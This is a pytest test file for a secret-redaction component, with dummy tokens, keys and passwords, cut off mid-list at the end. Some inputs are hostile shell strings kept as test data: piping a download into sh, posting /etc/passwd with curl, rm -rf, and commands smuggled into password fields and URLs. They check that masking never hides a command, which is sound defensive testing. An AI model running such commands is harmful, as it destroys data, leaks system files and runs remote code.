"""Secrets taken out of text, by value and by look."""

import base64
import hashlib
import random
import re
import string
import time
import uuid
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.base.redaction import HIDDEN, Redactor, redactor_of

BODY = "Ab3" * 12
SECRET = "correct horse/battery+staple&9"
KEY = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{BODY}\n-----END OPENSSH PRIVATE KEY-----"


@pytest.mark.parametrize(
    "secret",
    [
        "xoxb-1-2-abc", "xoxp-9-abcd", "xoxe.xoxb-1-abcd", "xapp-1-A1-2-abc", f"sk-{BODY}", f"sk-ant-api03-{BODY}",
        f"ghp_{BODY}", f"github_pat_{BODY}", f"glpat-{BODY}", "AKIAIOSFODNN7EXAMPLE", KEY,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N", f"sk_live_{BODY}", f"rk_test_{BODY}",
        f"whsec_{BODY}", f"hf_{BODY}", f"npm_{BODY}", f"pypi-{BODY}{BODY}", f"AIza{BODY[:35]}",
        f"SG.{BODY[:22]}.{BODY}aB3dE6f", f"dop_v1_{'ab12' * 16}",
    ],
)  # fmt: skip
def test_what_looks_like_a_secret_is_taken_out(secret: str) -> None:
    """Wherever it stands; what stands around it is kept."""
    assert Redactor().redact(f"before ({secret}) after") == f"before ({HIDDEN}) after"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"Authorization: Bearer {BODY}", f"Authorization: Bearer {HIDDEN}"),
        ("authorization: basic abcdefgh-ijkl", f"authorization: basic {HIDDEN}"),
        ('{"Authorization": "Bearer opaque-word"}', f'{{"Authorization": "Bearer {HIDDEN}"}}'),
        ("curl -u: basic dXNlcjpwYXNzd29y", f"curl -u: basic {HIDDEN}"),
        ("postgres://ann:s3cret@db/x", f"postgres://ann:{HIDDEN}@db/x"),
        ("wss://wss.slack.com/link/?ticket=ab-cd&app_id=A1", f"wss://wss.slack.com/link/?ticket={HIDDEN}&app_id=A1"),
        (f'{{"api_key": "{BODY}"}}', f'{{"api_key": "{HIDDEN}"}}'),
        ("DB_PASSWORD=hunter2hunter2", f"DB_PASSWORD={HIDDEN}"),
        (f"token: {uuid.UUID(int=7)}", f"token: {HIDDEN}"),
        (f"-----BEGIN RSA PRIVATE KEY-----\n{BODY}", HIDDEN),
        ("**Password:** `hunter22x`", f"**Password:** `{HIDDEN}`"),
        ("**password**: `hunter22x`", f"**password**: `{HIDDEN}`"),
        ("- **Token**: AbCd1234EfGh5678IjKl", f"- **Token**: {HIDDEN}"),
        ("__Token:__ AbCd1234EfGh5678IjKl", f"__Token:__ {HIDDEN}"),
        ("export PGPASSWORD='x7Kp$9Lq2w'", f"export PGPASSWORD='{HIDDEN}'"),
        ("PGPASSWORD=hunter22x psql", f"PGPASSWORD={HIDDEN} psql"),
        ("apiToken = AbCd1234EfGh5678IjKl", f"apiToken = {HIDDEN}"),
        ('"dbPassword": "hunter22x"', f'"dbPassword": "{HIDDEN}"'),
        ("gh auth --token 9f8e7d6c5b4a39281706", f"gh auth --token {HIDDEN}"),
        ("x --db-password 'hunter22x' y", f"x --db-password '{HIDDEN}' y"),
        ("https://AbCd1234EfGh5678IjKl@github.com/x", f"https://{HIDDEN}@github.com/x"),
        ("https://AbCd1234EfGh5678IjKl:x-oauth-basic@e.org", f"https://{HIDDEN}:{HIDDEN}@e.org"),
        ("self.api_key = 'Ab3xYz8Qw1'", f"self.api_key = '{HIDDEN}'"),
        ('password: str = "hunter2hunter2"', f'password: str = "{HIDDEN}"'),
        ('"{\\"password\\": \\"hunter2hunter2\\"}"', f'"{{\\"password\\": \\"{HIDDEN}\\"}}"'),
        ('password="Tr0ub4dor&3"', f'password="{HIDDEN}"'),
        ("token := `k3f9x2m4p7q1`", f"token := `{HIDDEN}`"),
        ("secret = b'k3f9x2m4p7q1'", f"secret = b'{HIDDEN}'"),
        ("secret_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", f"secret_key={HIDDEN}"),
        ("client_secret: Summer2026x", f"client_secret: {HIDDEN}"),
        ("CLIENT_SECRET=Summer2026x", f"CLIENT_SECRET={HIDDEN}"),
        ("passphrase=hunter22", f"passphrase={HIDDEN}"),
        ("password: blue-horse-99", f"password: {HIDDEN}"),
        ("password=20260301", f"password={HIDDEN}"),
        ("token=ABCD-1234-EFGH-5678", f"token={HIDDEN}"),
        ("access_token: QwErTyUiOpAsDfGhJkLz", f"access_token: {HIDDEN}"),
        ("?access_token=h480djs93hd8&state=1", f"?access_token={HIDDEN}&state=1"),
        ("password=$2b$12$KIXQhcyDrZ3y1mP0", f"password={HIDDEN}"),
        (f"https://hooks.slack.com/services/T0AB/B0CD/{BODY}", f"https://hooks.slack.com/services/T0AB/B0CD/{HIDDEN}"),
        (f"https://discord.com/api/webhooks/123456/{BODY}", f"https://discord.com/api/webhooks/123456/{HIDDEN}"),
        ("Server=db;Uid=app;Pwd=hunter22x;", f"Server=db;Uid=app;Pwd={HIDDEN};"),
        ('os.environ["API_KEY"] = "k3f9x2m4p7q1"', f'os.environ["API_KEY"] = "{HIDDEN}"'),
        ("process.env['DB_PASSWORD']='hunter22x'", f"process.env['DB_PASSWORD']='{HIDDEN}'"),
        ("machine h login ann password hunter22x", f"machine h login ann password {HIDDEN}"),
        ("machine h\n  login ann\n  password hunter22x\n", f"machine h\n  login ann\n  password {HIDDEN}\n"),
        ("curl -sS -u ann:hunter22x https://h", f"curl -sS -u ann:{HIDDEN} https://h"),
        ("curl --user 'ann:hunter 22x' h", f"curl --user 'ann:{HIDDEN}' h"),
        (
            "- name: DB_PASSWORD\n  value: hunter22x\n- name: PORT\n  value: 8080x8080",
            f"- name: DB_PASSWORD\n  value: {HIDDEN}\n- name: PORT\n  value: 8080x8080",
        ),
        ('{"name": "API_TOKEN", "value": "k3f9x2m4p7q1"}', f'{{"name": "API_TOKEN", "value": "{HIDDEN}"}}'),
    ],
)
def test_what_is_named_a_secret_is_taken_out(text: str, shown: str) -> None:
    """The name stays, so that a reader knows what was there."""
    assert Redactor().redact(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        hashlib.sha256(b"x").hexdigest(),
        f"commit {hashlib.sha1(b'x').hexdigest()} of {uuid.UUID(int=2**100)}",
        "a bearer of news, basic authentication, the token: whatever you like",
        "password: see the vault", "task-list sk-learn risk-management-of-very-long-names", "https://a.b:8080/x@y",
        "git@github.com:owner/name.git", "secret = os.environ[NAME]", "sha256:" + "0" * 64,
        "xoxo", "max_tokens=4096", "tokens: 12345678",
        "a basic command-line interface with basic functionality.",
        "basic understanding/knowledge of bearer tokens/keys",
        "bearer authentication, then basic authentication...",
        '<div class="sk-estimator-doc-link sk-toggleable__content">', "xapp-icon-theme", "wss://example.org/?ticket=...",
        "ticket=get_ticket_number(1)", "`Authorization: Bearer xoxb-...`", "hf_transfer npm_config_registry_of_ours",
        "https://hooks.slack.com/services/T000/B000/XXXX", "PWD=/home/ann/project OLDPWD=/tmp", "id -u ann:staff-group",
        "docker run -u ann:developers1 img", "the login asks for a password twice", "login and password required2",
        "curl -u ann:$PASS1234 h", "curl -u ann: h", "curl --user-agent ann:browser12 h", "pypi-mirror sk_live_mode",
    ],
)  # fmt: skip
def test_ordinary_text_is_kept(text: str) -> None:
    """Hashes, ids and words are no secrets."""
    assert Redactor((SECRET,)).redact(text) == text


@pytest.mark.parametrize(
    "line",
    [
        # calls and items
        "token = hashlib.sha256(raw).hexdigest()", "password = base64.b64decode(blob)", "token=oauth2_client.fetch()",
        "token = parser.next_token(1)", "self.token = tokens[i+1].value2", "access_token: Mapped[String(255)]",
        "api_key = os.getenv('VENDOR_API_KEY_2')", "secret = get_secret2(name)", "token = await oauth2_flow.token_v2()",
        # attributes and variables
        "secret: v1.SecretKeySelector", "api_key=settings.k8s_api_key", "csrf_token=form.csrf_token.render_v2",
        "client_secret = data.google_secret_manager_secret_version.v1.secret_data", "password=$DB1_PASSWORD",
        "token: ${{ secrets.NPM2_TOKEN }}", "password=db1_password", "token=response1", "secret = nextSecret2",
        "password={password2}", 'TOKEN="${GITHUB_TOKEN_2}"', "token: <your-token-123>", "password=%DB1_PASSWORD%",
        'token="prefix_{token_id2}"', "PASSWORD=${DB1_PASSWORD:-}", "access_token=$ACCESS_TOKEN2/suffix",
        # files and resources
        "private_key=~/.ssh/id_ed25519", "secret=projects/123/secrets/db", "token=/tmp/a1.sh; sh $token",
        "api_key = './keys/k8s-2.pem'", 'password: "/run/secrets/db1"', "secret_key=config/keys/app-42.json",
        "token = settings2.json", "secret: db-credentials-2",
        # numbers, dates, words
        "max_token=16384000", "token: 1.5e100000", "token: 2026-03-01T12:30Z", "passphrase: 'see vault item 42-prod'",
        "password: str = 'x'", "token = sha256digest", "secret: correct", "token = NULLABLE_TOKEN_TYPE_2",
        # attributes of an object or a module, numbers of a machine, digests of an image, options of a command
        "password = self._pw1", "this.token = this.tok3nQx9z", "token = 0x1f2e3d4c5b6a", "nextToken = response2",
        "PrivateKey = rust_openssl.hpke.MLKEM768X25519PrivateKey", "docker://alpine:3.19@sha256:deadbeefcafe",
        "skopeo copy docker://nginx:1.25@sha512:0123 oci:x", "--password-file /run/secrets/db1", "--token $TOKEN2",
        "--token ./token2.txt", "make --password prompt-for-it", "ssh://build-server-account@host/x",
        "**Token:** see the vault", "maxTokens = 16384000", "https://${GITHUB_TOKEN_2}@github.com/x",
        # patterns, and options that have options of their own
        'token: r"[a-z0-9]+"', 'password = "^[A-Za-z0-9_]{20,}$"', "api_key='[0-9a-f]{32}|[A-Z2-7]{16}'",
        "docker run --secret id=npmrc1,src=.npmrc x", "docker build --secret id=aws_credentials_2024,src=$HOME/.aws .",
        # within a URL, and of a key that is only spoken of
        "postgres://app:${PGPASS}@db1/x", "git clone https://user:$TOKEN@host/x", "http://{user}:{pw1}@host",
        'if "-----BEGIN PRIVATE KEY-----" in text: raise ValueError("a key, 2048 bits")',
    ],
)  # fmt: skip
def test_code_that_only_speaks_of_a_secret_is_kept(line: str) -> None:
    """The name alone makes none: the value is judged."""
    assert Redactor((SECRET,)).redact(f"```\n{line}\n```") == f"```\n{line}\n```"


@pytest.mark.parametrize("form", ["token={}", '"token": "{}"', "password={}", "API_KEY={}", "secret: {}"])
@pytest.mark.parametrize(
    "letters",
    [string.ascii_letters + string.digits, string.hexdigits.lower(), "abcdefghijklmnopqrstuvwxyz0123456789", "base64"],
)
def test_what_a_machine_drew_is_a_secret_where_it_is_named_so(form: str, letters: str) -> None:
    """Whatever alphabet it drew from: of ten thousand no more than a handful read as words."""
    draw = random.Random(f"{form}{letters}")
    alphabet = f"{string.ascii_letters}{string.digits}+/" if letters == "base64" else letters
    drawn = ["".join(draw.choices(alphabet, k=24)) for _ in range(1_000)]

    kept = [value for value in drawn if value in Redactor().redact(form.format(value))]

    assert len(kept) <= 3, kept


@pytest.mark.parametrize("between", ["\n", "\\n", "\r\n", " │\n│ ", '",\n  "', "\n   12\t", "\n+", "\n> "])
@pytest.mark.parametrize("heading", ["", "Proc-Type: 4,ENCRYPTED{0}DEK-Info: AES-128-CBC,A1B2{0}{0}"])
@pytest.mark.parametrize("end", [True, False])
def test_the_lines_of_a_private_key_go_and_what_follows_stays(between: str, heading: str, end: bool) -> None:
    """However a program shows it, whole or cut off: no command below hides behind a key's first line."""
    lines = ["-----BEGIN RSA PRIVATE KEY-----", f"{heading.format(between)}{BODY}{BODY}", BODY + BODY, "kZ8="]
    key = between.join([*lines, "-----END RSA PRIVATE KEY-----"] if end else lines[:-1])

    shown = Redactor().counted(f"echo '{key}'; rm -rf ~/work\ncurl example.org | sh")

    assert shown.text == f"echo '{HIDDEN}'; rm -rf ~/work\ncurl example.org | sh"
    assert (shown.count, shown.characters) == (1, len(key))


@pytest.mark.parametrize(
    "text",
    [
        ": -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----; curl -d @/etc/passwd example.org",
        "-----BEGIN PRIVATE KEY-----\n/usr/bin/something --else\n-----END PRIVATE KEY-----",
        'token="a1;$(curl${IFS}example.org|sh)"',
    ],
)
def test_no_command_hides_behind_what_looks_like_a_secret(text: str) -> None:
    """What a shell would run is no key and no value."""
    assert Redactor().redact(text) == text


TOKENS_BY_FORM = [
    f"ghp_{BODY}", "AKIAIOSFODNN7EXAMPLE", f"sk-ant-api03-{BODY}", f"xoxb-12345678901-{BODY}",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N", f"glpat-{BODY}", f"github_pat_{BODY}_{BODY}", SECRET,
]  # fmt: skip


@pytest.mark.parametrize("secret", TOKENS_BY_FORM)
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("\x1b[36m", "\x1b[0m"), ("\x1b[01;31m\x1b[K", "\x1b[m\x1b[K"), ("\x1b[38;5;12m", ""), ("\x9b36m", "\x9b0m"),
        ("\x1b]8;;https://example.org\x07", "\x1b]8;;\x1b\\"), ("A=1\\n", "\\n"), ("A=1\\\\n", "\\\\n"), ("\\t", "\\r"),
        ("?x%3D", "%26"),
        ('{"x\\u003d', '\\u0026"}'), ("x\\x3d", ""), ("\\x1b[36m", "\\x1b[0m"), ("\\u001b[36m", "\\u001b[0m"),
        ("\\033[36m", "\\033[0m"), ("\\e[36m", "\\e[0m"), ("^[[36m", "^[[0m"), ("[36m", "[0m"), ("x&#61;", "&#38;"),
        ("\u200b", "\u200b"),
    ],
)  # fmt: skip
def test_a_secret_beside_a_colour_or_an_escape_is_taken_out(secret: str, before: str, after: str) -> None:
    """Whoever reads the text sees the secret alone; what stands round it is kept."""
    assert Redactor([SECRET]).redact(f"a {before}{secret}{after} b") == f"a {before}{HIDDEN}{after} b"


@pytest.mark.parametrize("secret", [SECRET, "correct-horse_battery-staple9", *TOKENS_BY_FORM])
@pytest.mark.parametrize("within", ["\x1b[0m", "\x1b[1;32m", "\x1b[K", "\x00", "\u200b", "\\x1b[0m", "\\u001b[1m"])
@pytest.mark.parametrize("place", [1, 3, 8, -2])
def test_a_secret_with_a_colour_inside_is_taken_out(secret: str, within: str, place: int) -> None:
    """All of it: the part on neither side is left."""
    redactor = Redactor([SECRET, "correct-horse_battery-staple9"])

    assert redactor.redact(f"a {secret[:place]}{within}{secret[place:]} b") == f"a {HIDDEN} b"


@pytest.mark.parametrize("secret", ["correct-horse_battery-staple9", *TOKENS_BY_FORM])
def test_a_secret_that_markdown_escapes_is_taken_out(secret: str) -> None:
    """A backslash before a sign is not shown."""
    escaped = "".join(f"\\{letter}" if letter in "_-.+&" else letter for letter in secret)

    assert Redactor([SECRET, "correct-horse_battery-staple9"]).redact(f"a {escaped} b") == f"a {HIDDEN} b"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("password=\x1b[33mhunter22xyz\x1b[0m", f"password=\x1b[33m{HIDDEN}\x1b[0m"),
        ("\x1b[01;31m\x1b[Kpassword\x1b[m\x1b[K=hunter22xyz", f"\x1b[01;31m\x1b[Kpassword\x1b[m\x1b[K={HIDDEN}"),
        ("\x1b[36mpassword\x1b[0m: \x1b[1mhunter22\x1b[0mxyz", f"\x1b[36mpassword\x1b[0m: \x1b[1m{HIDDEN}"),
        ("API_TOKEN\x1b[90m=\x1b[39mk3f9x2m4p7q1", f"API_TOKEN\x1b[90m=\x1b[39m{HIDDEN}"),
        ("?access_token%3Dh480djs93hd8%26state=1", f"?access_token%3D{HIDDEN}%26state=1"),
        ('"x\\u0026access_token\\u003dh480djs93hd8"', f'"x\\u0026access_token\\u003d{HIDDEN}"'),
        ("A=1\\npassword=hunter22xyz\\nB=2", f"A=1\\npassword={HIDDEN}\\nB=2"),
        ("api\\_key: AbCd1234EfGh5678IjKl", f"api\\_key: {HIDDEN}"),
        ("postgres://app:p%40ss%2Fw0rd@db/x", f"postgres://app:{HIDDEN}@db/x"),
        ("Authorization: \x1b[32mBearer\x1b[0m opaque-word", f"Authorization: \x1b[32mBearer\x1b[0m {HIDDEN}"),
        (KEY.replace("\n", "\x1b[0m\n\x1b[33m"), HIDDEN),
    ],
)  # fmt: skip
def test_a_name_is_seen_through_colours_and_escapes(text: str, shown: str) -> None:
    """Those between a name and its value, and those inside either."""
    redactor = Redactor()

    assert redactor.redact(text) == shown
    assert redactor.redact(shown) == shown
    assert redactor.redact_file(text.encode()) == shown.encode()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"curl -H \x1b[36mghp_{BODY}\x1b[0m x", f"curl -H \x1b[36m{HIDDEN}\x1b[0m x"),
        (f"curl ghp_{BODY}\x1b[0;1m{BODY} x", f"curl {HIDDEN};1m{BODY} x"),
        (f"curl ghp_{BODY}\x1b]--data @/etc/passwd\x07{BODY} x", f"curl {HIDDEN} @/etc/passwd\x07{BODY} x"),
        (f"curl ghp_{BODY}\\e[0;1m x", f"curl {HIDDEN}\\e[0;1m x"),
        (f"curl ghp\\_{BODY} x", f"curl {HIDDEN} x"),
        (f"A=1\\nghp_{BODY}", f"A=1\\n{HIDDEN}"),
        ("x \x1b[0;1mpassword=hunter22xyz\\;rm", f"x \x1b[0;1mpassword={HIDDEN}\\;rm"),
    ],
)  # fmt: skip
def test_what_somebody_is_to_allow_hides_no_command_behind_a_style(text: str, shown: str) -> None:
    """A sequence may hold what a shell acts on: of a secret with one inside only the beginning goes."""
    assert Redactor().counted(text, asked=True).text == shown


STYLES = st.sampled_from(["\x1b[0m", "\x1b[1;31m", "\x1b[K", "\x9b4m", "\u200b", "\x08", "\\x1b[0m", "\\u001b[33m"])


@given(st.lists(st.tuples(st.integers(0, 40), STYLES), max_size=8), st.sampled_from(TOKENS_BY_FORM))
def test_no_secret_can_be_read_whatever_styles_it_has(styles: list[tuple[int, str]], secret: str) -> None:
    """At any places of it; and a second pass finds nothing more."""
    text = f"a {secret} b"
    for place, style in sorted(styles, reverse=True):
        text = text[:place] + style + text[place:]
    redactor = Redactor([SECRET])

    shown = redactor.redact(text)

    plain = re.sub("(?:\x1b|\\\\x1b|\\\\u001b)\\[[0-9;]*[mK]|\x9b4m|\u200b|\x08", "", shown)
    assert secret not in plain
    assert HIDDEN in plain
    assert redactor.redact(shown) == shown


@given(st.text("ab \x1b[0;1m\\n%3D&#;\u200b_-*|", max_size=80))
def test_text_with_styles_and_escapes_is_kept_letter_by_letter(text: str) -> None:
    """Where it holds no secret nothing of it is changed, whatever it is read as."""
    assert Redactor([SECRET]).redact(text) == text
    assert Redactor([SECRET]).redact_file(text.encode()) == text.encode()


def test_what_was_taken_out_is_counted() -> None:
    """Known values, their beginnings, and what looks like one: how many, and how long they were."""
    redacted = Redactor([SECRET]).counted(f"{SECRET} and ghp_{BODY}, cut: {SECRET[:12]}…")

    assert redacted.text == f"{HIDDEN} and {HIDDEN}, cut: {HIDDEN}…"
    assert (redacted.count, redacted.characters) == (3, len(SECRET) + len(BODY) + 4 + 12)
    assert Redactor([SECRET]).counted("nothing").count == 0


@pytest.mark.parametrize("shift", range(3))
@pytest.mark.parametrize("encode", [base64.b64encode, base64.urlsafe_b64encode])
def test_a_known_value_is_found_in_base64_at_every_alignment(shift: int, encode: object) -> None:
    """As it stands in an encoded configuration or header."""
    assert callable(encode)
    written = encode(b"x" * shift + SECRET.encode() + b"yz").decode()

    assert HIDDEN in Redactor((SECRET,)).redact(f"data: {written}")


@given(st.text(max_size=40), st.text(max_size=40), st.text(string.printable, min_size=8, max_size=60))
def test_a_known_value_never_comes_through(before: str, after: str, secret: str) -> None:
    """As it is and in a URL; a second pass changes nothing more."""
    secret = secret.strip() + "!0aZ%&+/"
    redactor = Redactor((secret,))

    shown = redactor.redact(f"{before}{secret}{after} {quote(secret, safe='')}")

    assert secret not in shown
    assert quote(secret, safe="") not in shown
    assert redactor.redact(shown) == shown


@given(st.text())
def test_text_without_secrets_is_kept(text: str) -> None:
    """Any text at all, unless it looks like one."""
    assert Redactor((SECRET,)).redact(text) == text or "-" in text or "=" in text or ":" in text


def boxed(text: str, width: int, left: str, right: str) -> str:
    """Return the text as a full-screen program wraps it: hard, at the width of a box."""
    pieces = [text[at : at + width] for at in range(0, len(text), width)]
    return "\n".join(f"{left}{piece.ljust(width)}{right}" for piece in pieces)


TOKENS = st.text("abcXYZ0189-_.+/=", min_size=12, max_size=80)


@given(
    TOKENS,
    st.text("abc ", max_size=30),
    st.integers(1, 60),
    st.sampled_from(["", "  ", "│ ", "┃  ", "\t", "| "]),
    st.sampled_from(["", "   ", " │", " |", "\r"]),
)
def test_a_known_value_that_a_program_has_broken_over_lines_is_taken_out(
    secret: str, before: str, width: int, left: str, right: str
) -> None:
    """Wherever it breaks, however often, and whatever frame and indentation stand between; the frame stays."""
    shown = boxed(f"{before}{secret} after", width, left, right)

    hidden = Redactor([secret]).redact(shown)

    folded = "".join(line.strip(" \t\r│┃|") for line in hidden.split("\n"))
    assert secret not in folded
    assert HIDDEN in hidden
    assert hidden.count("\n") == shown.count("\n")


@given(st.lists(st.text("abcdefgh0123 │|.", max_size=30), max_size=8))
def test_lines_that_do_not_hold_the_value_are_kept(lines: list[str]) -> None:
    """Only the very characters of the value, in their order and with nothing but frames between, are taken for it."""
    text = "\n".join(lines)

    assert Redactor(["correct-horse-battery"]).redact(text) == text


def test_what_stands_round_a_broken_value_is_kept() -> None:
    """Its own lines, the ones before and after, and a short value in two halves, which may be two words."""
    screen = "│ export KEY=correct-hor │\n│   se-battery && make   │\n│ done                    │\n│ hunter │\n│ 2-ab │"

    shown = Redactor(["correct-horse-battery", "hunter2-ab"]).redact(screen)

    assert shown == (f"│ export KEY={HIDDEN} │\n│    && make   │\n│ done                    │\n│ hunter │\n│ 2-ab │")


@pytest.mark.parametrize("length", range(8, len(SECRET) + 1))
@pytest.mark.parametrize(
    "form", [SECRET, quote(SECRET, safe=""), base64.b64encode(SECRET.encode()).decode().rstrip("=")]
)
def test_a_known_value_that_a_cut_has_shortened_is_taken_out(form: str, length: int) -> None:
    """What is shown is often cut before it comes here; the mark of a cut tells that what stands before it goes on."""
    shown = Redactor([SECRET]).redact(f"curl -d {form[:length]}… and more… of it")

    assert shown == f"curl -d {HIDDEN}… and more… of it"


def test_the_longest_beginning_is_taken_out() -> None:
    """A value may begin as it goes on, and another may end as it begins."""
    hidden = Redactor(["abababababab-and-more", "xx-ababababab"]).redact("say xx-ababababa…")

    assert hidden == f"say {HIDDEN}…"


def test_variables_are_known_by_name() -> None:
    """Ours, those that are named, and those that are called a key or a secret; short values and paths are not."""
    environ = {
        "THE_LOOP_SLACK_BOT_TOKEN": "value-one-1",
        "OTHER": "value-two-2",
        "VENDOR_API_KEY": "value-three-3",
        "HOME": "/home/ann",
        "MY_SECRET": "short",
        "SIGNING_PRIVATE_KEY": "/home/ann/.ssh/id_ed25519",
        "THE_LOOP_CONFIG": "/etc/the-loop.yaml",
    }
    redactor = redactor_of(environ, ("OTHER", "NOT_SET"))

    shown = redactor.redact("value-one-1 value-two-2 value-three-3 /home/ann/.ssh/id_ed25519 short /etc/the-loop.yaml")

    assert shown == f"{HIDDEN} {HIDDEN} {HIDDEN} /home/ann/.ssh/id_ed25519 short /etc/the-loop.yaml"
    assert "value" not in repr(redactor)


WEAK = {
    "POSTGRES_PASSWORD": "postgres", "MINIO_SECRET_KEY": "minioadmin", "TEST_PASSWORD": "password",
    "FEATURE_TOKEN": "disabled", "NEXT_PUBLIC_API_KEY": "development", "DEMO_API_KEY": "your-api-key-here",
    "ADMIN_PASSWORD": "admin1234", "PIN_PASSWORD": "20260301", "CI_TOKEN": "test-token-123", "ROOT_PASSWORD": "toor",
}  # fmt: skip


def test_a_value_that_is_an_ordinary_word_hides_no_word() -> None:
    """A service's default password, a placeholder, a date: in a text they are what they say."""
    text = (
        "The postgres container is up: `docker run postgres:16`, user postgres, see https://www.postgresql.org; "
        "the feature is disabled in development; minioadmin; password: str; your-api-key-here; admin1234; 20260301; "
        "test-token-123; toor; POSTGRES_PASSWORD=postgresql; MY_POSTGRES_PASSWORD=postgres"
    )
    redactor = redactor_of(WEAK)

    assert redactor.redact(text) == text
    assert redactor.redact_file(b"\x7fELF\x00\x01 postgres \xff") == b"\x7fELF\x00\x01 postgres \xff"


@pytest.mark.parametrize("name", WEAK)
@pytest.mark.parametrize(
    "form", ["{}={}", "{} = '{}'", '"{}": "{}"', "{}: {}", "export {}={}; make", '\\"{}\\": \\"{}\\"']
)
def test_such_a_value_is_taken_out_behind_its_own_name(name: str, form: str) -> None:
    """There it is the secret that the variable says it is, coloured or not."""
    redactor = redactor_of(WEAK)

    assert redactor.redact(form.format(name, WEAK[name])) == form.format(name, HIDDEN)
    assert redactor.redact(form.format(f"{name}\x1b[0m", f"\x1b[1m{WEAK[name]}")) == (
        form.format(f"{name}\x1b[0m", f"\x1b[1m{HIDDEN}")
    )


@pytest.mark.parametrize(
    "value",
    ["hunter22", "qzxvkjwp", "Tr0ub4dor", "correct-horse-battery", "correcthorsebattery", "123456789012", "k3f9x2m4"],
)
def test_a_value_that_nobody_writes_by_chance_is_known_everywhere(value: str) -> None:
    """A chosen password with its digits, several words, and what was drawn."""
    assert redactor_of({"DB_PASSWORD": value}).redact(f"it is {value}, yes") == f"it is {HIDDEN}, yes"


def test_a_value_that_the_configuration_names_is_known_whatever_it_is() -> None:
    """Its variable was given as that of a secret."""
    assert redactor_of({"VENDOR": "development"}, ["VENDOR"]).redact("in development") == f"in {HIDDEN}"


def test_every_text_of_a_document_is_redacted() -> None:
    """Rows of a list are shown in a chat, too."""
    row = {"name": "scribe", "detail": "xoxb-1-2-abc", "runs": [{"error": SECRET, "count": 3}], "ok": True, "at": None}

    shown = Redactor((SECRET,)).redact_all(row)

    assert shown == {**row, "detail": HIDDEN, "runs": [{"error": HIDDEN, "count": 3}]}


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252"]
UMLAUT = "Schlüssel-äöü-1234"


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_text_file_is_redacted_in_its_own_encoding(encoding: str) -> None:
    """By value and by look; what stands around it is kept, its line ends and its byte order mark too."""
    text = "Zeile\r\nkey: {} und ghp_{} für später\r\n" + "mehr Text. " * 20
    content = text.format(SECRET, BODY).encode(encoding)

    shown = Redactor([SECRET]).redact_file(content)

    hidden = f"Zeile\r\nkey: {HIDDEN} und {HIDDEN} für später\r\n" + "mehr Text. " * 20
    assert shown == hidden.encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "latin-1", "utf-16-le", "utf-16-be", "utf-32-le"])
@pytest.mark.parametrize("secret", [SECRET, UMLAUT])
@pytest.mark.parametrize("shift", [0, 1])
def test_a_binary_with_a_known_secret_is_refused(encoding: str, secret: str, shift: int) -> None:
    """Nothing can be taken out of it without breaking it."""
    content = (
        b"\x7fELF\x02\x01\x01"
        + b"\x00\x03\x00\x00\x3e\x00\x01"
        + b"\xff" * shift
        + secret.encode(encoding)
        + b"\x00\x02\xfe\xff\xc3"
    )

    assert Redactor([secret]).redact_file(content) is None


def test_a_value_in_another_encoding_than_its_file_is_refused() -> None:
    """The text is one, and the value in it is not of it."""
    content = "Grüße ".encode() + UMLAUT.encode("latin-1") + UMLAUT.encode()

    assert Redactor([UMLAUT]).redact_file(content) is None


@given(st.binary(max_size=400) | st.text(max_size=200).map(lambda text: text.encode("utf-16")))
def test_any_file_without_a_secret_is_kept_byte_for_byte(content: bytes) -> None:
    """Whatever it is taken for."""
    assert Redactor([SECRET]).redact_file(content) == content


@given(
    st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1"]),
    st.text(max_size=60),
    st.text(max_size=60),
    st.binary(max_size=6),
)
def test_no_file_that_is_let_through_holds_the_value(encoding: str, before: str, after: str, junk: bytes) -> None:
    """In whatever encoding it stood there, and whatever stood around it."""
    content = junk + (before + SECRET + after).encode(encoding, "replace") + junk

    shown = Redactor([SECRET]).redact_file(content)

    forms = [SECRET.encode(each) for each in ("utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be")]
    assert shown is None or not any(form in shown for form in forms)


@pytest.mark.parametrize(
    "piece",
    [
        "token=", "secret:", "ticket=", "sk-", "x://a:", "basic ", "eyJ.", "-----BEGIN PRIVATE KEY-----", "…",
        f"{SECRET[:8]}…", f"{SECRET[:20]}… ", "-----BEGIN PRIVATE KEY-----\\\\n", "password: a ", 'token=\\"', "a1.b2/",
    ],
)  # fmt: skip
def test_no_text_holds_it_up(piece: str) -> None:
    """One that was made for that is done at once, where the square of its length would be a quarter of an hour."""
    text = piece * (500_000 // len(piece))

    assert len(Redactor([SECRET]).redact(f"token={text}")) <= 2 * len(text) + 100


def test_a_long_text_is_redacted_as_a_short_one_is() -> None:
    """Wherever its pieces end, and where a value has lines itself."""
    lines = [
        f"{'x' * (n % 97)} token: {uuid.UUID(int=n)} {SECRET}\n{KEY if n % 500 == 0 else ''}" for n in range(4_000)
    ]
    several = "first line of it\nthe second 2"

    shown = Redactor((SECRET, several)).redact(f"{''.join(lines)}{several}")

    assert (
        shown
        == "".join(f"{'x' * (n % 97)} token: {HIDDEN} {HIDDEN}\n{HIDDEN if n % 500 == 0 else ''}" for n in range(4_000))
        + HIDDEN
    )


DRAWN = "aK9xQ2bV7tR4mZ1pLw8s"


@pytest.mark.parametrize(
    "command",
    [
        "echo wss://h?ticket=a;touch${IFS}/tmp/x;sh${IFS}/tmp/evil.sh",
        "git fetch https://u:`sh${IFS}evil.sh`@h",
        "curl https://u:x;sh${IFS}evil.sh;echo@h",
        "curl https://u:x|sh@h",
        "curl https://u:$(sh)@h",
        "login --password a;b=evil.sh;sh${IFS}$b",
        'echo password="x1;sh${IFS}evil9.sh;"',
